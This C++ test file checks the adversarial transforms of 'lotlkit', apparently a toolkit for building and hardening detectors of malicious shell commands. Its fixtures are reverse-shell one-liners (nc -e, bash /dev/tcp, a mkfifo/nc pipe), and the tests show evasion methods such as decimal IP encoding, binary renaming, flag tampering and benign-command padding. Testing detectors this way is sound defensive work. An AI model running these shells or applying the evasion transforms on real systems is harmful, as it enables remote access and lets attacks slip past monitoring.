#include <doctest.h>

#include <regex>

#include "lotlkit/adversarial.hpp"
#include "lotlkit/attacks.hpp"
#include "lotlkit/baseline.hpp"

using namespace lotlkit;

namespace {

std::vector<std::string> tiny_adversary() {
    return {"ls -la /var/log", "df -h", "uptime", "grep error syslog", "tar -czf a.tgz /etc"};
}

}  // namespace

TEST_SUITE_BEGIN("attacks");

TEST_CASE("zero payload leaves the command unchanged") {
    Rng rng(1);
    CHECK(inject_benign("nc -e sh 1.2.3.4 53", 0, tiny_adversary(), rng) == "nc -e sh 1.2.3.4 53");
}

TEST_CASE("payload is exactly the requested size, ;-joined to the original") {
    Rng rng(2);
    const std::string evil = "nc -e sh 1.2.3.4 53";
    auto out = inject_benign(evil, 16, tiny_adversary(), rng);
    CHECK(out.size() == 16 + 1 + evil.size());
    CHECK(out[16] == ';');
    CHECK(out.substr(17) == evil);
}

TEST_CASE("output always ends with the original command") {
    Rng rng(3);
    const std::string evil = "bash -i >& /dev/tcp/10.0.0.1/443 0>&1";
    for (int i = 0; i < 1000; ++i) {
        const std::size_t payload = 16 + rng.uniform(113);
        auto out = inject_benign(evil, payload, tiny_adversary(), rng);
        REQUIRE(out.size() >= evil.size());
        CHECK(out.substr(out.size() - evil.size()) == evil);
    }
}

TEST_CASE("empty adversary baseline with a positive budget is an error") {
    Rng rng(4);
    CHECK_THROWS_AS(inject_benign("nc -e sh 1.2.3.4 53", 16, {}, rng), DataError);
}

TEST_CASE("decimal ip rewrites the loopback example exactly") {
    Rng rng(5);
    CHECK(escape::decimal_ip("ping 127.0.0.1", rng) == "ping 2130706433");
    CHECK(escape::decimal_ip("curl http://10.1.1.2:80/x", rng) == "curl http://167837954:80/x");
    CHECK(escape::decimal_ip("echo 1.2.3", rng) == "echo 1.2.3");  // not an IPv4
    CHECK(escape::decimal_ip("v 1.2.3.4.5", rng) == "v 1.2.3.4.5");  // five octets
}

TEST_CASE("decimal ip encode/decode are exact inverses") {
    Rng rng(6);
    for (int i = 0; i < 1000; ++i) {
        const int a = static_cast<int>(rng.uniform(256));
        const int b = static_cast<int>(rng.uniform(256));
        const int c = static_cast<int>(rng.uniform(256));
        const int d = static_cast<int>(rng.uniform(256));
        const auto v = escape::encode_decimal_ip(a, b, c, d);
        CHECK(escape::decode_decimal_ip(v) == std::to_string(a) + "." + std::to_string(b) + "." +
                                                  std::to_string(c) + "." + std::to_string(d));
    }
}

TEST_CASE("threshold zero never alters the command") {
    Rng rng(7);
    const std::string evil = "bash -i >& /dev/tcp/10.1.1.2/4444 0>&1";
    CHECK(escape_perturb(evil, 0.0, rng) == evil);
}

TEST_CASE("futile code inserts a no-op at a boundary") {
    bool saw_interior = false;
    for (std::uint64_t seed = 0; seed < 32; ++seed) {
        Rng rng(seed);
        auto out = escape::futile_code("mkfifo a;cat a", rng);
        const bool interior = out == "mkfifo a;id;cat a" || out == "mkfifo a;true;cat a";
        const bool prelude = out == "id;mkfifo a;cat a" || out == "true;mkfifo a;cat a";
        CHECK((interior || prelude));
        saw_interior = saw_interior || interior;
    }
    CHECK(saw_interior);  // the worked example form is reachable
}

TEST_CASE("flag tamper inserts the harmless flag after the binary") {
    Rng rng(8);
    CHECK(escape::flag_tamper("bash -i", rng) == "bash -x -i");
    CHECK(escape::flag_tamper("nc -e sh 1.2.3.4 53", rng) == "nc -v -e sh 1.2.3.4 53");
    CHECK(escape::flag_tamper("python3 -c 'x'", rng) == "python3 -u -c 'x'");
    CHECK(escape::flag_tamper("ls -la", rng) == "ls -la");  // nothing to tamper
}

TEST_CASE("binary rename produces the cp prelude and rewires every occurrence") {
    Rng rng(9);
    auto out = escape::binary_rename("bash -i", rng);
    std::smatch m;
    REQUIRE(std::regex_match(out, m, std::regex(R"(cp bash ([a-z]{1,2});\1 -i)")));

    Rng rng2(10);
    auto chained = escape::binary_rename("cat /tmp/f|/bin/bash -i 2>&1|nc 10.0.0.1 53 >/tmp/f", rng2);
    CHECK(chained.find("cp /bin/bash ") != std::string::npos);
    CHECK(chained.find("cp nc ") != std::string::npos);
    CHECK(chained.find("/bin/bash -i") == std::string::npos);
    CHECK(chained.find("|nc ") == std::string::npos);
}

TEST_CASE("rename does not touch words embedding a binary name") {
    Rng rng(11);
    CHECK(escape::binary_rename("crontab -l", rng) == "crontab -l");  // contains no standalone name
    auto out = escape::binary_rename("usermod -aG docker deploy", rng);
    CHECK(out == "usermod -aG docker deploy");
}

TEST_CASE("escape at threshold one applies every applicable action") {
    Rng rng(12);
    const std::string evil = "/bin/bash -i >& /dev/tcp/10.1.1.2/4444 0>&1";
    auto out = escape_perturb(evil, 1.0, rng);
    CHECK(out.find("10.1.1.2") == std::string::npos);       // decimal_ip fired
    CHECK(out.find("167837954") != std::string::npos);
    CHECK(out.find("cp /bin/bash ") != std::string::npos);  // rename fired
    CHECK(out.find("-x") != std::string::npos);             // flag tamper fired
    const bool futile = out.find("id;") != std::string::npos || out.find(";id") != std::string::npos ||
                        out.find("true;") != std::string::npos || out.find(";true") != std::string::npos;
    CHECK(futile);
}

TEST_CASE("escape output never reintroduces quote-style manipulations") {
    // only the four auditd-preserved actions may fire; spot-check that the
    // perturbed text differs from the original by those mechanisms alone
    Rng rng(13);
    const std::string evil = "nc -e /bin/sh 10.0.0.5 4444";
    auto out = escape_perturb(evil, 1.0, rng);
    CHECK(out.find('\'') == std::string::npos);
    CHECK(out.find('"') == std::string::npos);
    CHECK(out.find("${IFS}") == std::string::npos);
    CHECK(out.find("base64") == std::string::npos);
}

TEST_CASE("attacks are deterministic per seed") {
    const std::string evil = "bash -i >& /dev/tcp/10.1.1.2/4444 0>&1";
    Rng a(77), b(77), c(78);
    auto out_a = escape_perturb(evil, 0.7, a);
    auto out_b = escape_perturb(evil, 0.7, b);
    CHECK(out_a == out_b);
}

TEST_CASE("hybrid with parameter zero is the identity") {
    AttackConfig cfg;
    cfg.adversary_baseline = tiny_adversary();
    Rng rng(14);
    const std::string evil = "nc -e sh 10.0.0.1 53";
    CHECK(hybrid_attack(evil, 0.0, cfg, rng) == evil);
}

TEST_CASE("hybrid payload sizes follow round(param*128)") {
    AttackConfig cfg;
    cfg.adversary_baseline = tiny_adversary();
    const std::string evil = "nc -e sh 10.0.0.1 53";

    // reproduce the escape stage with a cloned rng to isolate the payload
    for (double param : {0.5, 1.0}) {
        Rng rng(15);
        Rng clone = rng;
        auto out = hybrid_attack(evil, param, cfg, rng);
        auto escaped = escape_perturb(evil, param, clone);
        const auto payload = static_cast<std::size_t>(std::llround(param * 128.0));
        REQUIRE(out.size() == payload + 1 + escaped.size());
        CHECK(out.substr(out.size() - escaped.size()) == escaped);
        CHECK(out[payload] == ';');
    }
}

TEST_CASE("escape-transformed form is a contiguous suffix of any attack output") {
    AttackConfig cfg;
    cfg.adversary_baseline = tiny_adversary();
    cfg.kind = AttackKind::kHybrid;
    cfg.attack_param = 0.8;
    for (std::uint64_t seed = 0; seed < 50; ++seed) {
        Rng rng(seed);
        Rng clone = rng;
        auto out = hybrid_attack("bash -i >& /dev/tcp/10.1.1.2/53 0>&1", 0.8, cfg, rng);
        auto escaped = escape_perturb("bash -i >& /dev/tcp/10.1.1.2/53 0>&1", 0.8, clone);
        REQUIRE(out.size() >= escaped.size());
        CHECK(out.substr(out.size() - escaped.size()) == escaped);
    }
}

TEST_CASE("attack_dataset perturbs only malicious rows and tags their origin") {
    std::vector<CommandRecord> records = {
        make_baseline_record("ls -la", Split::kTest),
        {"nc -e sh 10.0.0.1 53", 1, "template:nc-e", Split::kTest},
    };
    AttackConfig cfg;
    cfg.kind = AttackKind::kShellEscape;
    cfg.threshold = 1.0;
    cfg.seed = 3;
    auto out = attack_dataset(records, cfg);
    REQUIRE(out.size() == 2);
    CHECK(out[0] == records[0]);
    CHECK(out[1].origin == "adversarial:shell_escape");
    CHECK(out[1].label == 1);
    CHECK(out[1].cmd != records[1].cmd);

    auto out2 = attack_dataset(records, cfg);
    CHECK(out2[1].cmd == out[1].cmd);  // per-sample streams are seed-stable
}

TEST_CASE("adversarial augmentation arithmetic and suffix contract") {
    std::vector<CommandRecord> train;
    for (int i = 0; i < 100; ++i)
        train.push_back(make_baseline_record("benign " + std::to_string(i), Split::kTrain));
    for (int i = 0; i < 1000; ++i)
        train.push_back({"evil " + std::to_string(i), 1, "template:t", Split::kTrain});

    auto out = augment_adversarial(train, 0.5, 42);
    CHECK(out.size() == train.size() + 500);
    for (std::size_t i = train.size(); i < out.size(); ++i) {
        const auto& rec = out[i];
        CHECK(rec.label == 1);
        CHECK(rec.origin == "adversarial:train_prepend");
        const auto sep = rec.cmd.find(';');
        REQUIRE(sep != std::string::npos);
        CHECK(rec.cmd.substr(0, sep).rfind("benign ", 0) == 0);
        CHECK(rec.cmd.substr(sep + 1).rfind("evil ", 0) == 0);
    }
}

TEST_CASE("rho zero leaves the training set untouched") {
    std::vector<CommandRecord> train = {make_baseline_record("a", Split::kTrain),
                                        {"evil", 1, "template:t", Split::kTrain}};
    CHECK(augment_adversarial(train, 0.0, 1) == train);
    CHECK_THROWS_AS(augment_adversarial(train, 1.5, 1), ConfigError);
}

TEST_SUITE_END();
